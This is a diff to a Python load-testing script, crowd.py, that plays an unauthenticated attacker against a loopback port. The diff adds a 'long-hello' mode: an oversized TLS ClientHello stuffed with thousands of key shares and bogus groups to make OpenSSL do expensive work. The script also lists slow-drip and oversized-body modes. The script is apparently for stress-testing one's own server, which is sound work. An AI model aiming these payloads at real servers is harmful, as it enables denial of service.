@@ -1,6 +1,6 @@
 """An attacker without credentials: connections to a port of loopback that say nothing, or too little, and are kept open as long as the server lets them.
 
-    crowd.py PORT [--many N] [--rate N] [--say nothing|noise|hello|half-hello|request|session|drip-head|drip-body|large-body|pipeline|deaf|sip] [--tls]
+    crowd.py PORT [--many N] [--rate N] [--say nothing|noise|hello|half-hello|long-hello|request|session|drip-head|drip-body|large-body|pipeline|deaf|sip] [--tls]
         [--path PATH] [--cert FILE --key FILE] [--networks N] [--first N]
 
 At most N are held at a time, those that the server closed being replaced, and at most `rate` are made in a second. Whoever drips sends another byte every
@@ -31,13 +31,26 @@ def client_hello():
     return out.read()
 
 
+def long_hello():
+    """64 KiB whose 6,500 key shares OpenSSL would look for among 16,300 groups (RFC 8446 4.2.7, 4.2.8), in records of 16 KiB."""
+    number = lambda value: value.to_bytes(2, "big")  # noqa: E731  (one word for many calls)
+    behind_its_size = lambda text: number(len(text)) + text  # noqa: E731
+    groups = b"\x99\x99" * 16_300 + b"\x10\x00\x00\x1d"
+    shares = (b"\x10\x00" + behind_its_size(b"a")) * 6_500
+    extensions = {10: behind_its_size(groups), 13: behind_its_size(b"\x04\x03"), 43: b"\x02\x03\x04", 51: behind_its_size(shares)}
+    body = b"\x03\x03" + bytes(32) + b"\0" + behind_its_size(b"\x13\x01") + b"\1\0"
+    body += behind_its_size(b"".join(number(which) + behind_its_size(text) for which, text in extensions.items()))
+    hello = b"\1" + len(body).to_bytes(3, "big") + body
+    return b"".join(b"\x16\x03\x01" + behind_its_size(hello[at : at + 16384]) for at in range(0, len(hello), 16384))
+
+
 def words(say, path):
     hello = client_hello()
     # Again and again: where only so many lists are made at a time, the next may be.
     ask = f"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n".encode() * 50
     begun = b"GET /livez HTTP/1.1\r\nHost: a\r\n"
     announced = begun + b"Content-Length: 1000000\r\n\r\n"
-    return {"nothing": b"", "noise": b"\x00" * 64, "hello": hello, "half-hello": hello[:40], "session": b"", "request": begun,
+    return {"nothing": b"", "noise": b"\x00" * 64, "hello": hello, "half-hello": hello[:40], "long-hello": long_hello(), "session": b"", "request": begun,
             "drip-head": begun + b"X: ", "drip-body": announced, "large-body": announced + b"x" * 990_000,
             "pipeline": (begun + b"\r\n") * 2000, "deaf": ask, "sip": ask}[say]
 
@@ -199,7 +212,7 @@ def main():
     parser.add_argument("port", type=int)
     parser.add_argument("--many", type=int, default=1000)
     parser.add_argument("--rate", type=float, default=500)
-    parser.add_argument("--say", default="nothing", choices=["nothing", "noise", "hello", "half-hello", "request", "session", "drip-head", "drip-body", "large-body", "pipeline", "deaf", "sip"])
+    parser.add_argument("--say", default="nothing", choices=["nothing", "noise", "hello", "half-hello", "long-hello", "request", "session", "drip-head", "drip-body", "large-body", "pipeline", "deaf", "sip"])
     parser.add_argument("--tls", action="store_true")
     parser.add_argument("--path", default="/metrics")
     parser.add_argument("--cert")
